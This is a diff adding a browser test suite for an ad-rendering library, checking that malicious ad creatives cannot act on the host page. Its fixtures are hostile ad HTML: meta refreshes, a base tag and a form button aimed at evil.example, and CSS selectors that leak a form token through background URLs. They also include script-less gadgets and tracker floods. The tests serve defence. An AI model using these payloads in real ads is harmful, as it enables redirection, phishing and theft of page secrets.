@@ -1,0 +1,155 @@
+/** What must not happen: that an ad's html acts on the page as a document's head does, without script and under any policy. */
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { adPage, concluded, trackedAnswer, ZONE } from '../../support/ad-page';
+import type { Wire } from '../../support/builders';
+import { chainAnswer, network } from '../../support/network-page';
+import { stageFor } from '../../support/stage';
+import { NONCE, strictPolicy } from '../../support/strict-headers';
+
+const test = suite('attacks by creatives');
+const stage = stageFor(test);
+
+const AD = '<div class="ad">An ad</div>';
+const FILL = "<script>_an_adFill('custom')</script>";
+
+/** What a head may hold, and an ad may not. */
+const HEADS: [what: string, html: string][] = [
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=/gone.html">'],
+  ['a refresh in capitals', '<META CONTENT="0;url=/gone.html" HTTP-EQUIV="ReFresh">'],
+  ['a base', '<base href="https://evil.example/" target="_top">'],
+  ['a title', '<title>You have won</title>'],
+  ['links that are no stylesheets', '<link rel="canonical stylesheet" href="/c"><link rel=manifest href=/m>'],
+  ['a referrer policy', '<meta name="referrer" content="unsafe-url">'],
+];
+
+/** Where an answer may write them. */
+const PLACES: [where: string, answer: (html: string) => { answer: Wire }][] = [
+  ['its html', (html) => trackedAnswer({ html: `<div>${html}${AD}</div>` })],
+  ['its wrapper', (html) => trackedAnswer({}, { htmlWrapperTop: html, htmlWrapperBottom: ' ' })],
+  ['its tags', (html) => trackedAnswer({ trackingTags: `${html}<script>window.hasRun = 1</script>` })],
+  [
+    'a network',
+    (html) => chainAnswer([network('custom', { html: AD + FILL, headerTags: html, footerTags: html })]),
+  ],
+];
+
+for (const [what, head] of HEADS) {
+  test(`${what} in an ad › is left out of the page, wherever the answer has it`, async () => {
+    const { adsOrigin, networkOrigin, tagOrigin } = stage();
+    const policy = strictPolicy('nonce', { tag: tagOrigin, ads: adsOrigin, net: networkOrigin });
+    for (const [where, answer] of PLACES) {
+      stage().adServer.setZone(ZONE, answer(head));
+      const html = adPage({ elementId: 'slot' }).replaceAll('<script', `<script nonce="${NONCE}"`);
+      const headers = { 'Content-Security-Policy': policy };
+      const { page, settled } = await stage().open({ html: html.replace(/<title>.*<\/title>/, ''), headers });
+      const url = page.url();
+      await concluded(page);
+      await settled();
+      const found = await page.evaluate(() => ({
+        base: document.baseURI,
+        title: document.title,
+        elements: [
+          ...document.querySelectorAll('base,title,meta:not([charset]),link:not([rel=modulepreload])'),
+        ]
+          .map(({ outerHTML }) => outerHTML)
+          .filter((text) => !/viewport|icon|preconnect/.test(text)),
+        shown: document.querySelectorAll('.ad').length,
+      }));
+      assert.equal(
+        [where, page.url(), found],
+        [where, url, { base: url, title: '', elements: [], shown: 1 }],
+      );
+    }
+  });
+}
+
+/** Html that needs no script of its own to use the page's. */
+const GADGETS: [what: string, html: string][] = [
+  ['a custom element of the page', '<x-menu class="ad">An ad</x-menu>'],
+  [
+    'attributes that libraries run',
+    '<p class="ad" x-init="pwn()" hx-get="/x" hx-trigger="load" data-controller="pwn">An ad</p>',
+  ],
+  [
+    'a button of the page’s form',
+    '<button class="ad" form="own" formaction="https://evil.example/">An ad</button>',
+  ],
+  [
+    'css that reads the page',
+    '<style>#own [value^=s] { background: url(/leak) }</style><p class="ad">An ad</p>',
+  ],
+];
+
+for (const [what, html] of GADGETS) {
+  test(`${what}, with isolation: 'frame' › is in the frame, and nowhere in the page`, async () => {
+    const style = '#own { background: url(/leak) }';
+    const wrapper = { htmlWrapperTop: '<section id="around">', htmlWrapperBottom: '</section>' };
+    const run = '<script>window.hasRun = 1</script>';
+    stage().adServer.setZone(
+      ZONE,
+      trackedAnswer({ html, style, trackingTags: `<img src="{{ADS}}/im.gif">${run}` }, wrapper),
+    );
+    const head = `<script>customElements.define('x-menu', class extends HTMLElement { connectedCallback() { window.hasRun = 1; } })</script>`;
+    const page = adPage({
+      elementId: 'slot',
+      head,
+      html: '<form id="own"><input name="token" value="secret"></form><div id="slot"></div>',
+      settings: { isolation: 'frame' },
+    });
+    const visit = await stage().open(page);
+    await concluded(visit.page);
+    await visit.page.frameLocator('iframe[title=Advertisement]:visible').locator('#around .ad').waitFor();
+    await stage().waitForHit(({ path }) => path.startsWith('/im.gif'));
+    await visit.settled();
+    const found = await visit.page.evaluate(() => [
+      document.querySelectorAll('.ad, #around').length,
+      'hasRun' in window,
+      [...document.querySelectorAll('style')].some(({ textContent }) => /leak/.test(textContent ?? '')),
+    ]);
+    assert.equal(found, [0, false, false]);
+    assert.equal(
+      visit.requests.filter((url) => /leak|evil|\/x$/.test(url)),
+      [],
+    );
+    assert.is(stage().pixels(/im\.gif/).length, 1);
+  });
+}
+
+const MANY = Array.from({ length: 5_000 }, (_, n) => `{{ADS}}/im.gif?n=${n}`);
+const FLOODS: [what: string, ad: Wire][] = [
+  ['addresses in a list', { trackingTags: '', trackingUrls: { impressions: MANY } }],
+  ['images in its tags', { trackingTags: MANY.map((url) => `<img src="${url}">`).join('') }],
+  ['equal addresses', { trackingTags: '', trackingUrls: { impressions: MANY.map(() => '{{ADS}}/im.gif') } }],
+];
+
+for (const [what, ad] of FLOODS) {
+  test(`5,000 ${what} › are at most 64 trackers`, async () => {
+    stage().adServer.setZone(ZONE, trackedAnswer(ad));
+    const { page, settled } = await stage().open(adPage({ elementId: 'slot' }));
+    await concluded(page);
+    await settled();
+    assert.is(stage().pixels(/im\.gif/).length, 64);
+  });
+}
+
+test('texts of a megabyte in a template › are cut', async () => {
+  const long = 'long '.repeat(200_000);
+  const texts = { title: long, summary: long, promotedBy: long, promotedByTag: long };
+  stage().adServer.setZone(ZONE, trackedAnswer({ html: '', ...texts, ctaTitle: long, ctaUrl: '/cta' }));
+  const { page } = await stage().open(adPage({ elementId: 'slot' }));
+  await concluded(page);
+  const html = await page.innerHTML('.adsnative-native');
+  assert.ok(html.length < 50_000, `${html.length} characters`);
+});
+
+test('a stylesheet, and the name of a drawing › stay', async () => {
+  const html = `<div class="ad"><link rel="StyleSheet" href="/s.css"><svg><title>A cup</title></svg></div>`;
+  stage().setPage('/s.css', '');
+  stage().adServer.setZone(ZONE, trackedAnswer({ html }));
+  const { page } = await stage().open(adPage({ elementId: 'slot' }));
+  await concluded(page);
+  assert.is(await page.locator('.ad link, .ad svg title').count(), 2);
+});
+
+test.run();
